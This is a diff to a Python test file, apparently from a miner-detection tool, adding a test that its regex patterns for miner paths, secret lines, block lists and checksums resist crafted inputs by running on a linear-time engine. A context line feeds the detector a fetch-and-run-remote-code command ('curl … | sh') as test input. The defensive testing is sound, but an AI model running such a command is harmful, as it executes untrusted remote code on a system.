@@ -96,3 +96,24 @@ def test_what_re2_refuses_or_cannot_read_stays_with_re() -> None:
     # Offsets are characters in any text, as with re.
     m = lazy.search("é€ curl http://h/x | sh")
     assert m is not None and m.span() == (3, 23)
+
+
+def test_patterns_over_attacker_written_text_elsewhere_run_on_re2() -> None:
+    """Patterns that read long runs of text a miner's operator writes: a router's files and
+    layer-7 rules, a readable .env, a block list, the string-array checksum. With ``re``
+    each of these took seconds to minutes on one crafted line of 40-60 KB."""
+    from minehunt.intel import lists
+    from minehunt.prevent import exposure
+    from minehunt.router import audit, code
+    from minehunt.web import stringarray
+
+    patterns = (
+        code._MINER_PATH,
+        audit._RX_HOST,
+        exposure._SECRET_LINE,
+        lists._PLAIN,
+        stringarray._CHECKSUM,
+    )
+    assert all(rx.linear for rx in patterns)
+    assert code._MINER_PATH.search("a" * 60000 + " /lib/miner.js") is not None
+    assert lists._PLAIN.fullmatch("a." * 30000 + "-") is None
